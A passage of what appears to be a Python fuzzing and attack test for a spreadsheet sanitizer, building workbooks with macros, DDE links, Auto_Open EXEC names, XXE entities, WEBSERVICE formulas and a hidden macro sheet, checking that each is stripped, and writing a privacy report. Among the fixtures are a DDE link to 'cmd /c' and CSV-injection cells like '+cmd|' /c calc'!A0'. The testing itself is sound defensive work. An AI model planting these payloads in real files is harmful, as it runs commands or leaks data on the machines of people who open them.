        _part("xl/drawings/vml9.vml", SHAPE, "vmlDrawing", content_type="application/vnd.openxmlformats-officedocument.vmlDrawing"),
        _in_sheet(f'<legacyDrawing xmlns:r="{OFFICE}" r:id="rOut"/>'),
    ),
    "a header's picture": _all(
        _part("xl/drawings/vml8.vml", SHAPE, "vmlDrawing", content_type="application/vnd.openxmlformats-officedocument.vmlDrawing"),
        _in_sheet(f'<legacyDrawingHF xmlns:r="{OFFICE}" r:id="rOut"/>'),
    ),
    "a control": _all(
        _part("xl/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{la.example}"/>', "control",
              content_type="application/vnd.ms-office.activeX+xml"),
        _in_sheet(f'<controls><control xmlns:r="{OFFICE}" shapeId="1" r:id="rOut" name="a"/></controls>'),
    ),
    "DDE in an external book": _part(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c la.example"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
        "externalLink", BOOK, outside="externalLinkPath"),
    "OLE in an external book": _part(
        "xl/externalLinks/externalLink2.xml",
        f'<externalLink xmlns="{MAIN}"><oleLink xmlns:r="{OFFICE}" r:id="rOut" progId="la.example"/></externalLink>', "externalLink", BOOK, outside="oleObject"),
    "a web query": _all(
        _part("xl/connections.xml", f'<connections xmlns="{MAIN}"><connection id="1" type="4"><webPr url="{OUTSIDE}"/></connection></connections>', "connections", BOOK),
        _part("xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{MAIN}" name="a" connectionId="1" refreshOnLoad="1"/>', "queryTable"),
    ),
    "a ribbon": _part("customUI/customUI14.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="la.example"/>',
                      "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", BOOK, "application/xml"),
    "an add-in": _part("xl/webextensions/taskpanes.xml", f'<a xmlns="la.example">{OUTSIDE}</a>',
                       "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", BOOK, "application/vnd.ms-office.webextensiontaskpanes+xml"),
    "a macro sheet": _all(
        _part("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("la.example")</f></c></row></sheetData></xm:macrosheet>',
              "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", BOOK, "application/vnd.ms-excel.macrosheet+xml"),
        replaced(BOOK, "</sheets>", f'<sheet xmlns:r="{OFFICE}" name="Chạy" sheetId="7" state="veryHidden" r:id="rOut"/></sheets>'),
    ),
    "a name that opens": replaced(BOOK, "<definedName ", '<definedName name="_xlnm.Auto_Open">EXEC("la.example")</definedName><definedName '),
    "a name of another book": replaced(BOOK, "<definedName ", '<definedName name="xa">[1]S!$A$1</definedName><definedName '),
    "macros": _all(_part("xl/vbaProject.bin", "la.example", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", BOOK, "application/vnd.ms-office.vbaProject"),
                   replaced(TYPES, "spreadsheetml.sheet.main+xml", "spreadsheetml.sheet.main+xml")),
    "a pivot that asks": _part("xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
                               "pivotCacheDefinition", BOOK),
    "a picture in a cell": _part("xl/richData/rdRichValueWebImage.xml", f'<webImagesSrd xmlns="{MAIN}">{OUTSIDE}</webImagesSrd>',
                                 "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage", BOOK, "application/vnd.ms-excel.rdrichvaluewebimage+xml"),
    "real-time data": _part("xl/volatileDependencies.xml", f'<volTypes xmlns="{MAIN}"><volType type="realTimeData"><main first="la.example"/></volType></volTypes>', "volatileDependencies", BOOK),
    "publishing": _in_sheet(f'<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="{OUTSIDE}"/></webPublishItems>'),
    "groups of functions": _in_book('<functionGroups><functionGroup name="la.example"/></functionGroups>'),
    "a sparkline": _in_sheet(f'<extLst><ext uri="{{2}}" {X14}><x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>[1]la.example!A1</xm:f></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>'),
    "a colour rule of 2010": _in_sheet(f'<extLst><ext uri="{{3}}" {X14}><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression"><xm:f>WEBSERVICE("{OUTSIDE}")</xm:f></x14:cfRule></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>'),
    "a bar whose length is asked for": replaced(SHEET, "<conditionalFormatting ", f'<conditionalFormatting sqref="C4"><cfRule type="dataBar" priority="9"><dataBar><cfvo type="formula" val="WEBSERVICE(&quot;{OUTSIDE}&quot;)"/><cfvo type="max"/><color rgb="FF00FF00"/></dataBar></cfRule></conditionalFormatting><conditionalFormatting '),
    "an entity": replaced(SHEET, "<worksheet", f'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "{OUTSIDE}">]><worksheet'),
    "a style sheet": replaced(SHEET, "<worksheet", f'<?xml-stylesheet type="text/xsl" href="{OUTSIDE}"?><worksheet'),
    "properties that are linked": _part("docProps/custom.xml", f'<Properties xmlns="a"><property linkTarget="{OUTSIDE}"/></Properties>', "custom-properties", BOOK, "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
    "the book in UTF-16": _in_utf16(BOOK),
    "styles in UTF-16": _in_utf16("xl/styles.xml"),
    "a template from elsewhere": related("xl/workbook.xml", f"{OFFICE}/attachedTemplate", OUTSIDE, external=True),
    "a frame of another file": related("xl/worksheets/sheet1.xml", f"{OFFICE}/package", OUTSIDE, external=True),
}  # fmt: skip
# What is done to the zip itself: bytes that belong to no part, a part twice.
PACKED: dict[str, Callable[[bytes], bytes]] = {
    "as it is": lambda data: data,
    "something before it": lambda data: _shifted(data, odd_files.package({"xl/vbaProject.bin": b"la.example"})[:-22]),
    "something behind it": lambda data: data + b"la.example",
    "a comment": lambda data: data[:-2] + b"\x0a\0la.example",
    "a part twice": lambda data: _twice(data),
}


def _shifted(data: bytes, before: bytes) -> bytes:
    """The same zip behind other bytes, its list of parts corrected by whoever writes it anew at that place."""
    out = io.BytesIO(before)
    out.seek(len(before))
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "a") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return out.getvalue()


def _twice(data: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as new:
        new.writestr("xl/Worksheets/Sheet1.xml", f'<worksheet xmlns="{MAIN}"><sheetData/><oleObjects/></worksheet>')
    return out.getvalue()


def _open_document() -> bytes:
    """Scripts, events, a form, a frame, formulas and links, as OpenDocument has them."""
    formula = 'office:value-type="string" office:string-value="x" table:formula="of:=WEBSERVICE(&quot;http://la.example&quot;)"'
    link = '<text:p><text:a xlink:href="http://la.example" xmlns:xlink="http://www.w3.org/1999/xlink">Nguyễn Văn 2</text:a></text:p>'
    rows = "".join(f"<table:table-row>{''.join(map(odd_files.ods_cell, row))}</table:table-row>" for row in odd_files.TABLE)
    rows += f"<table:table-row><table:table-cell {formula}>{link}</table:table-cell></table:table-row>"
    script = (
        '<office:scripts><office:script script:language="ooo:Basic" xmlns:script="la.example"/><office:event-listeners><script:event-listener '
        'xmlns:script="la.example" script:event-name="dom:load"/></office:event-listeners></office:scripts><office:body>'
    )
    data = odd_files.changed(odd_files.ods(rows), {"content.xml": lambda xml: xml.replace(b"<office:body>", script.encode())})
    return odd_files.changed(
        data, {"Basic/Standard/script-lb.xml": lambda _: b"<a>la.example</a>", "Object 1/content.xml": lambda _: b"<a>la.example</a>"}
    )


OTHER_FILES: dict[str, Callable[[], bytes]] = {
    "OpenDocument with scripts": _open_document,
    "CSV of formulas": lambda: "\n".join(
        ["Họ và tên;Mức xếp loại;Điểm", "Nguyễn Văn 2;=WEBSERVICE(A1);+1", "Trần Văn 3;@SUM(A1);-2+3+cmd|' /c calc'!A0", '"=HYPERLINK(""x"")";"\t=1";"\r=1"'],
    ).encode(),
    "binary workbook with macros": lambda: odd_files.changed(odd_files.xlsb({(0, 0): "Nguyễn Văn 2", (1, 0): "=cmd|' /c calc'!A0"}), {"xl/vbaProject.bin": lambda _: b"la.example"}),
}  # fmt: skip


@dataclass
class Sent:
    """Workbooks sent and what came of them."""

    tries: int = 0
    kinds: set[str] = field(default_factory=set)
    ends: dict[str, int] = field(default_factory=dict)  # what became of how many
    leaks: list[str] = field(default_factory=list)

    def take(self, kinds: list[str], faults: tuple, end: str, leaks: list[str]) -> None:
        self.tries += 1
        self.kinds |= set(kinds)
        self.ends[end] = self.ends.get(end, 0) + 1
        self.leaks += [f"{' + '.join(kinds)} ({'marked' if faults else 'faultless'}): {leak}" for leak in leaks]


def send_active(count: int, folder: Path, seed: int = 1) -> Sent:
    """Workbooks of one to four kinds of active content, by chance; what goes back is looked through and opened."""
    rng, sent, kinds = random.Random(seed), Sent(), {**ODD, **MORE}
    for kind, made in OTHER_FILES.items():
        for faults in ((), (FAULT,)):
            sent.take([kind], faults, *_given_back(made(), folder, faults))
    for number in range(count):
        chosen = rng.sample(list(kinds), rng.choice((1, 1, 2, 3, 4))) if number >= len(kinds) else [list(kinds)[number]]
        packed = rng.choice(list(PACKED)) if rng.random() < 0.2 else "as it is"
        data, used = _made_of({kind: kinds[kind] for kind in chosen})
        data = PACKED[packed](data)
        words = [*used, *([packed] if packed != "as it is" else [])]
        if not active.problems(data):
            continue  # one kind took the other's place
        faults = (FAULT,) if rng.random() < 0.5 else ()
        sent.take(words, faults, *_given_back(data, folder, faults))
    return sent


def _made_of(edits: dict[str, Callable[[Parts], None]]) -> tuple[bytes, list[str]]:
    """A workbook with these, as far as they go together; each leads to parts under names of its own."""
    used: list[str] = []

    def edit(parts: Parts) -> None:
        for n, (kind, one) in enumerate(edits.items()):
            tried = dict(parts)
            try:
                one(tried)
            except (AssertionError, KeyError, UnicodeDecodeError):
                continue  # what it would be put into is another's already
            parts.clear()
            parts.update({name: text.replace(b"rOut", b"rOut%d" % n) for name, text in tried.items()})
            used.append(kind)

    return edited(edit, whole=True), used


def _given_back(data: bytes, folder: Path, faults: tuple) -> tuple[str, list[str]]:
    source, target = folder / "sent", folder / "back.xlsx"
    source.write_bytes(data)
    target.unlink(missing_ok=True)
    try:
        became = give_back(Job(source, "bao-cao.xlsx", target, faults, ()))
    except Exception as error:
        return f"a summary alone ({type(error).__name__})", []
    back = target.read_bytes()
    leaks = active.problems(back)
    with zipfile.ZipFile(io.BytesIO(back)) as parts:
        leaks += [f"{name} speaks of la.example" for name in parts.namelist() if b"la.example" in parts.read(name).replace(b"\0", b"")]
    book, grid = openpyxl.load_workbook(io.BytesIO(back)), CalamineWorkbook.from_filelike(io.BytesIO(back))
    if book.sheetnames != grid.sheet_names or "Nguyễn Văn" not in str(grid.get_sheet_by_index(0).to_python()):
        leaks.append("its cells are not what they were")
    leaks += [
        f"{cell.coordinate} becomes a formula when it is edited"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
        and cell.data_type != "f"
        and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not cell.quotePrefix
    ]
    return {None: "its formulas stay", "frozen": "values for formulas", "values": "values alone"}[became], leaks


# ── the whole of it ──────────────────────────────────────────────────────────────────────────────────────────────


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--workbooks", type=int, default=2000, help="with active content")
    options.add_argument("--seed", type=int, default=int(time.time()))
    options.add_argument(
        "--whole-city", action="store_true", help="count who could be told from all others in the sample city too (minutes)"
    )
    options.add_argument("--write", action="store_true", help="write docs/privacy.md")
    chosen = options.parse_args()
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        cities = {}
        for size in ("small", "city") if chosen.whole_city else ("small",):
            home = Home(folder / size)
            make_city(home, size=size)
            assert pipeline(home, "load").returncode == 0
            cities[size] = singled_out(home)
            print(size, cities[size], flush=True)
        asked = ask_for_files(Home(folder / "small"), folder)
        print(asked, flush=True)
        sent = send_active(chosen.workbooks, folder, chosen.seed)
        print(sent, flush=True)
        (folder / "canaries").mkdir()
        formats = tuple(f for f in FORMATS if f != "xls" or shutil.which("soffice"))
        leaks = let_canaries_out(folder / "canaries", formats)
        print(leaks, flush=True)
    sections = report(chosen, leaks, cities, asked, sent, formats)
    for title, lines in sections.items():
        print("\n".join([f"## {title}", "", *lines, ""]))
        if chosen.write:
            write(title, lines)
    if leaks.leaks or asked.leaks or sent.leaks or leaks.places != len(leaks.planted):
        raise SystemExit("Something got out.")


def machine() -> str:
    return f"{os.cpu_count()} cores ({platform.machine()}), {psutil.virtual_memory().total / 2**30:.0f} GiB, Python {platform.python_version()}"


def report(
    chosen: argparse.Namespace, leaks: Leaks, cities: dict[str, tuple], asked: Asked, sent: Sent, formats: Iterable[str]
) -> dict[str, list[str]]:
    """The page's sections by their titles."""
    tried = f"Tried on {dt.date.today()}: {machine()}, DuckDB {duckdb.__version__}, seed {chosen.seed}."
    return {
        "Canaries": [
            tried,
            "",
            f"A name, an identity number and a birth date of nobody in each of {leaks.places} places of what a unit sends: every column of every dataset "
            f"({', '.join(formats)}), titles, signatures, headers and notes; sheets, files, folders; whatever a workbook has besides cells; reasons, and the "
            "registry's own words. Then loads, one of which judges everything again and misses files, one that has lost the whole archive; answers, a template, a "
            "check, a verification, a backup. A day in a column of a decision's day leaves as that: it is not planted there.",
            "",
            f"Found where they were put: {len(leaks.planted)} of {leaks.places}. Found where nobody may find them: {len(leaks.leaks)}.",
            "",
            "| looked through | files (of what is said: letters) |",
            "|---|---:|",
            *(f"| {what} | {count:,} |" for what, count in leaks.looked_at.items()),
            *(f"- {leak}" for leak in leaks.leaks),
        ],
        "Who could be told from all others": [
            "*Outsider* and *insider* as a load says them (docs/operations.md). Joined: who stands alone with everything that all tables say of a person "
            "together, over `person_key` and the rows that findings speak of. Who may read the file can follow a key through all tables, so this is "
            "nearly everybody, and no bound is asked: what protects then is that keys are nobody's, and that who reads is known.",
            "",
            "| city | table | persons | outsider | insider |",
            "|---|---|---:|---:|---:|",
            *(
                f"| {size} | {table} | {s.persons:,} | {s.outsider:.1%} | {s.insider:.1%} |"
                for size, (shares, _) in cities.items()
                for table, s in shares.items()
            ),
            *(
                f"| {size} | all joined | {shares['core.dim_person'].persons:,} | | {alone:.1%} |"
                for size, (shares, alone) in cities.items()
            ),
        ],
        "SQL on the published file": [
            tried,
            "",
            f"{asked.tries} attacks on the connection that docs/analysts.md recommends, in one session: files read, attached, written, listed; extensions, "
            f"settings and their reset, secrets, macros, statements within statements. {asked.works_unlocked} of them bring or change something where the "
            f"connection is not locked; here {len(asked.leaks)} read or wrote a byte. (`CALL enable_logging` into a file ends the asker's own process: DuckDB "
            f"{duckdb.__version__} refuses it in a place from which it cannot say so.)",
            *(f"- {leak}" for leak in asked.leaks),
        ],
        "Active content": [
            tried,
            "",
            f"{sent.tries:,} files with one to four of {len(sent.kinds)} kinds of what runs, asks or leads outside. What goes back is looked through by another "
            f"grammar (tests/active.py), opened by openpyxl and calamine, and its cells are compared. Left over: {len(sent.leaks)}.",
            "",
            "| what went back | files |",
            "|---|---:|",
            *(f"| {end} | {count:,} |" for end, count in sorted(sent.ends.items())),
            *(f"- {leak}" for leak in sent.leaks),
        ],
    }


HEAD = """# Privacy, attacked

`make attack` and `make fuzz-readers` try on your machine; `--write` behind their commands (Makefile) puts the counts here. What each does stands in tests/attack.py
and tests/readers.py; a short one of both is part of `make test`. What leaves at all, and why: [decision 0018](decisions/0018-what-leaves.md).
"""


def write(title: str, lines: list[str]) -> None:
    """Put a section of the page in the place of its last one."""
    text = PAGE.read_text("utf-8") if PAGE.exists() else HEAD
    before, _, behind = text.partition(f"\n## {title}\n")
    _, mark, others = behind.partition("\n## ")
    PAGE.write_text(before + "\n".join([f"\n## {title}", "", *lines, ""]) + mark + others, "utf-8")


if __name__ == "__main__":
    main()
